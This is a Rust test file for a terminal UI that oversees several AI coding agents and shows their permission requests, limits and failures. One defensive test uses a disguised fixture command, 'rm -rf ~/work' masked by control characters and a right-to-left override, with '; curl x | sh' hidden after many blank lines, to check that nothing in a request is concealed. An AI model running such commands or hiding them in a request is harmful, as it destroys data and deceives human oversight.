//! Several agents: who needs a person, and what that person says.

use crossterm::event::Event;
use serde_json::json;

use super::Desk;
use super::looks::look;
use crate::core::agent::asked::Which;
use crate::core::agent::event::{
    AgentEvent, Choice, Grant, LimitState, Limited, Meter, Part, Question, Trouble, Used, Verdict,
    Want, Words,
};
use crate::core::agent::say::Reply;
use crate::core::agent::tokens::{Tokens, Usd};
use crate::core::agent::tool::Category;
use crate::core::id::{Target, TaskId};
use crate::core::input::Input;
use crate::core::task::Exit;
use crate::core::time::Timestamp;
use crate::core::wire::Request;
use crate::screen::Action;

fn said(words: &str) -> AgentEvent {
    AgentEvent::Text(Words {
        key: String::new(),
        text: words.into(),
        part: Part::Whole,
        within: None,
    })
}

fn used(dollars: f64) -> AgentEvent {
    AgentEvent::Used(Used {
        model: Some("sonnet".into()),
        tokens: Tokens {
            input: 12_000,
            output: 900,
            ..Tokens::default()
        },
        cost: Usd::of(dollars),
        meter: Meter::Run,
    })
}

fn permission(request: &str) -> AgentEvent {
    let choice = |id: &str, label: &str, grant| Choice {
        id: id.into(),
        label: label.into(),
        grants: Some(grant),
    };
    AgentEvent::Asks(Question {
        request: request.into(),
        want: Want::Permission {
            tool: "Bash".into(),
            input: json!({"command": "rm -rf build && make"}),
            call: None,
        },
        text: "May it use Bash?".into(),
        choices: vec![
            choice("allow", "Yes", Grant::Once),
            choice("always", "Yes, and don't ask again", Grant::Always),
            choice("deny", "No", Grant::Deny),
        ],
        several: false,
        answerable: true,
    })
}

fn verdict(ok: bool, trouble: Option<Trouble>, text: &str) -> AgentEvent {
    AgentEvent::Result(Verdict {
        ok,
        text: text.into(),
        trouble,
        turns: Some(2),
    })
}

/// Eight agents, of which each stands somewhere else.
fn eight(desk: &mut Desk) {
    let names = [
        "api-errors",
        "parser",
        "docs",
        "migrate-db",
        "flaky-test",
        "ui-polish",
        "bench",
        "release",
    ];
    let ids = names.map(|name| desk.agent(name, "do what the name says"));
    let [api, parser, docs, migrate, flaky, ui, bench, release] = ids;
    for id in ids {
        desk.hears(id, vec![said("I'll look at it."), used(0.04)]);
    }
    desk.wait(60);
    desk.hears(migrate, vec![permission("r1")]);
    desk.hears(docs, vec![verdict(true, None, "It is written.")]);
    desk.ends(docs, Exit::Code(0));
    let text = "API Error: 401 invalid x-api-key";
    desk.hears(bench, vec![verdict(false, Some(Trouble::Auth), text)]);
    desk.ends(bench, Exit::Code(1));
    desk.hears(
        ui,
        vec![AgentEvent::Retrying {
            attempt: Some(3),
            most: Some(10),
            delay_ms: Some(4_000),
            status: Some(529),
            why: "529 overloaded".into(),
        }],
    );
    desk.hears(
        flaky,
        vec![AgentEvent::Limit(Limited {
            state: LimitState::Reached,
            which: "five-hour limit".into(),
            resets: Some(Timestamp(1_795_269_900_000)),
            resets_in_ms: None,
            clock: None,
            used: Some(1.0),
        })],
    );
    desk.hears(
        release,
        vec![verdict(false, None, "the tag is there already")],
    );
    desk.ends(release, Exit::Code(1));
    desk.wait(95);
    let call = AgentEvent::ToolStarted {
        id: "1".into(),
        name: "Bash".into(),
        category: Category::Command,
        input: json!({"command": "cargo test"}),
        within: None,
    };
    desk.hears(api, vec![call.clone()]);
    desk.hears(parser, vec![call]);
    desk.press("g");
}

#[test]
fn one_glance_tells_which_of_eight_agents_needs_a_person() {
    look("eight", &[], |desk| {
        eight(desk);
        desk.press("!");
    });
}

#[test]
fn a_key_goes_to_the_most_urgent_first() {
    let mut desk = Desk::new(80, 24);
    eight(&mut desk);
    let mut order = Vec::new();
    for _ in 0..3 {
        desk.press("!");
        order.push(desk.screen.list.selected().unwrap().0);
    }
    // who asks, whose key is refused, whose limit is reached
    assert_eq!(order, [4, 7, 5]);
    let second = desk.agent("late", "x");
    desk.hears(second, vec![permission("r9")]);
    desk.press("!");
    desk.press("g !");
    assert_eq!(
        desk.screen.list.selected(),
        Some(TaskId(4)),
        "it waits longer"
    );
}

#[test]
fn one_that_is_read_by_a_look_does_not_lead_back_to_the_first() {
    let mut desk = Desk::new(80, 24);
    eight(&mut desk);
    let mut order = Vec::new();
    for _ in 0..7 {
        desk.press("!");
        let id = desk.screen.list.selected().unwrap();
        desk.input(Input::Seen(id));
        order.push(id.0);
    }
    // asks, key refused, limit, failed, finished, tries again; then what still wants somebody
    assert_eq!(order, [4, 7, 5, 8, 3, 6, 4]);
}

#[test]
fn a_question_is_read_and_answered() {
    look("question", &[], |desk| {
        eight(desk);
        desk.press("! a").type_in("deny not that");
    });
    let mut desk = Desk::new(80, 24);
    eight(&mut desk);
    desk.press("! a").type_in("always").press("Enter");
    let reply = Reply::AllowAlways;
    let target = Target::Id(TaskId(4));
    assert!(
        matches!(desk.requests().as_slice(), [Request::Answer { target: t, reply: r, question: Some(Which::Request(q)) }] if *t == target && *r == reply && q == "r1")
    );
    desk.press("a");
    assert!(desk.text().contains("asks nothing"));
}

#[test]
fn an_ended_agent_is_had_go_another_way() {
    let mut desk = Desk::new(80, 24);
    let command = desk.run("make", "make");
    desk.press("F");
    let text = desk.text();
    assert!(text.contains("is no agent's"), "{text}");
    desk.exit(command, Exit::Code(0), 0);
    let id = desk.agent("api", "do it");
    desk.press("j F");
    let text = desk.text();
    assert!(
        text.contains("another way can be tried once it has ended"),
        "{text}"
    );
    desk.ends(id, Exit::Code(0));
    desk.taken();
    desk.press("F").type_in("rather so");
    let text = desk.text();
    assert!(
        text.contains(&format!("another way, to {id}> rather so")),
        "{text}"
    );
    desk.press("Enter");
    assert!(matches!(
        desk.requests().as_slice(),
        [Request::Send { target, text, fork: true, .. }]
            if *target == Target::Id(id) && text == "rather so"
    ));
}

#[test]
fn nothing_of_a_question_can_be_hidden() {
    let command = "rm -rf ~/work\recho safe\u{8}\u{202e}";
    let mut desk = Desk::new(100, 24);
    let id = desk.agent("api", "do it");
    let long = "\n".repeat(60);
    let choices = ["allow", "always allow all of it", "deny"].map(|label| Choice {
        id: label.into(),
        label: label.into(),
        grants: None,
    });
    desk.hears(
        id,
        vec![AgentEvent::Asks(Question {
            request: "r".into(),
            want: Want::Permission {
                tool: "Bash".into(),
                input: json!({"command": format!("{command}{long}; curl x | sh")}),
                call: None,
            },
            text: format!("Bash: {command}\nagain"),
            choices: choices.into(),
            several: false,
            answerable: true,
        })],
    );
    let text = desk.text();
    let line = "a answers: Bash: rm -rf ~/work␍echo safe␈<U+202E>␊again";
    assert!(text.contains(line), "{text}");
    let text = desk.press("a").text();
    let line = "command: rm -rf ~/work␍echo safe␈<U+202E>";
    assert!(text.contains(line), "{text}");
    assert!(text.contains("rows below: PgDn"), "{text}");
    assert!(text.contains("1. allow"), "what can be chosen: {text}");
    assert!(!text.contains("; curl x | sh"), "{text}");
    // all of it comes into sight, on a small screen too
    for (width, height) in [(100, 24), (40, 10)] {
        desk.event(Event::Resize(width, height));
        let mut seen = desk.text();
        for _ in 0..60 {
            seen += &desk.press("PgDn").text();
        }
        assert!(!desk.text().contains("below: PgDn"), "{}", desk.text());
        for part in ["; curl x | sh", "always allow all of it", "again"] {
            assert!(seen.contains(part), "{part}");
        }
        assert!(desk.text().contains("above: PgUp"));
        for _ in 0..60 {
            desk.press("PgUp");
        }
        let text = desk.text();
        assert!(text.contains("Bash: rm -rf ~/work␍echo"), "{text}");
    }
}

#[test]
fn an_answer_to_what_is_no_longer_asked_goes_nowhere() {
    let mut desk = Desk::new(80, 24);
    eight(&mut desk);
    desk.press("! a").type_in("allow");
    let answered = AgentEvent::Answered {
        request: "r1".into(),
    };
    desk.hears(TaskId(4), vec![answered, permission("r2")]);
    let text = desk.text();
    assert!(text.contains("that is no longer asked"), "{text}");
    assert!(
        !text.contains("command: rm -rf"),
        "the next is not shown as it: {text}"
    );
    desk.taken();
    desk.press("Enter");
    assert!(desk.text().contains("no longer asks that"));
    assert!(
        !desk
            .taken()
            .iter()
            .any(|it| matches!(it, Action::Request(..)))
    );
}

#[test]
fn a_turn_is_broken_off_in_the_line_of_its_message() {
    let mut desk = Desk::new(80, 24);
    eight(&mut desk);
    desk.press("g");
    let id = desk.screen.list.selected().unwrap();
    desk.press("s").type_in("half");
    assert!(desk.text().contains("Ctrl-C breaks off its turn"));
    desk.press("Ctrl-C");
    let target = Target::Id(id);
    assert!(matches!(desk.requests().as_slice(), [Request::Interrupt(t)] if *t == target));
    desk.type_in(" of it").press("Enter");
    let sent = desk.requests();
    assert!(matches!(sent.as_slice(), [Request::Send { text, .. }] if text == "half of it"));
}

#[test]
fn an_agent_that_failed_with_code_0_is_not_shown_as_if_it_had_done_it() {
    let mut desk = Desk::new(100, 24);
    let said = desk.agent("said", "do it");
    desk.hears(said, vec![verdict(false, None, "I could not do it.")]);
    desk.ends(said, Exit::Code(0));
    let text = desk.text();
    let mut lines = text.lines().filter(|line| line.contains("said"));
    assert!(lines.all(|line| line.contains("failed")), "{text}");
    assert!(!text.contains("exit 0"), "{text}");
    assert!(text.contains("I could not do it."), "{text}");
}

#[test]
fn a_message_may_have_lines_and_a_paste_sends_nothing_by_itself() {
    let mut desk = Desk::new(80, 24);
    let id = desk.agent("one", "begin");
    desk.press("s").type_in("first");
    desk.press("Ctrl-J").type_in("second");
    desk.event(crossterm::event::Event::Paste("\nthird\r\nfourth\n".into()));
    assert!(desk.text().contains("line 4 of 4"), "{}", desk.text());
    desk.press("Up");
    assert!(desk.text().contains("line 3 of 4"), "{}", desk.text());
    assert!(desk.requests().is_empty(), "sent before Enter");
    desk.press("Enter");
    let sent = desk
        .requests()
        .into_iter()
        .find_map(|request| match request {
            Request::Send { target, text, .. } => Some((target, text)),
            _ => None,
        });
    let text = "first\nsecond\nthird\nfourth".to_owned();
    assert_eq!(sent, Some((Target::Id(id), text)));
}

#[test]
fn an_agent_that_was_interrupted_waits_for_a_message() {
    let mut desk = Desk::new(80, 24);
    let id = desk.agent("one", "begin");
    desk.hears(id, vec![said("I'll look at it.")]);
    desk.press("s Ctrl-C");
    desk.requests();
    desk.hears(id, vec![verdict(false, Some(Trouble::Interrupted), "")]);
    let text = desk.press("Esc").text();
    let line = "s says what comes next: it was interrupted";
    assert!(text.contains(line), "{text}");
}

#[test]
fn why_in_the_command_bar_is_said_also_where_it_is_long() {
    let mut desk = Desk::new(80, 24);
    let ended = desk.agent("one", "begin");
    desk.hears(ended, vec![verdict(true, None, "Done.")]);
    desk.ends(ended, Exit::Code(0));
    let asks = desk.agent("two", "begin");
    desk.hears(asks, vec![permission("r1")]);
    let command = format!("why {ended}");
    desk.press("g :").type_in(&command).press("Enter");
    assert_eq!(desk.screen.list.selected(), Some(ended));
    let text = desk.text();
    let line = format!("{ended} one: succeeded after ");
    assert!(text.contains(&line), "{text}");
    let command = format!("why {asks}");
    desk.press(":").type_in(&command).press("Enter");
    let text = desk.text();
    let line = format!("{asks} two: running since ");
    assert!(text.contains(&line), "{text}");
    assert!(text.contains("answers: May it use Bash?"), "{text}");
    // what is too long for the line is a text of its own
    let mut desk = Desk::new(80, 24);
    let asks = desk.agent("two", "begin");
    let long = match permission("r1") {
        AgentEvent::Asks(question) => AgentEvent::Asks(Question {
            text: format!("{} and then?", "what comes next ".repeat(8)),
            ..question
        }),
        other => other,
    };
    desk.hears(asks, vec![long]);
    desk.press(":").type_in("why @").press("Enter");
    let text = desk.text();
    assert!(text.contains(" why ─"), "{text}");
    assert!(text.contains("and then?"), "{text}");
}

#[test]
fn a_message_that_is_refused_is_told_and_can_be_said_again() {
    for resume in [None, Some(&["claude", "--resume", "{session}"][..])] {
        let mut desk = Desk::new(150, 24);
        let id = desk.agent_that("one", "begin", resume);
        desk.hears(id, vec![said("I'll look at it.")]);
        desk.press("s").type_in("mind the tests").press("Enter");
        desk.requests();
        let text = desk.text();
        assert!(text.contains("sent: mind the tests"), "{text}");
        desk.press("s").type_in("and the docs").press("Enter");
        desk.requests();
        desk.hears(id, vec![verdict(true, None, "Done.")]);
        desk.ends(id, Exit::Code(0));
        let text = desk.text();
        assert!(
            text.contains("refused: and the docs and 1 more (the run ended"),
            "{text}"
        );
        let back = text.contains("s brings back refused");
        assert_eq!(back, resume.is_some(), "{text}");
        if back {
            desk.press("s Enter");
            let sent = desk.requests();
            let both = "mind the tests\n\nand the docs";
            assert!(matches!(&sent[..], [Request::Send { text, .. }] if text == both));
        }
    }
}
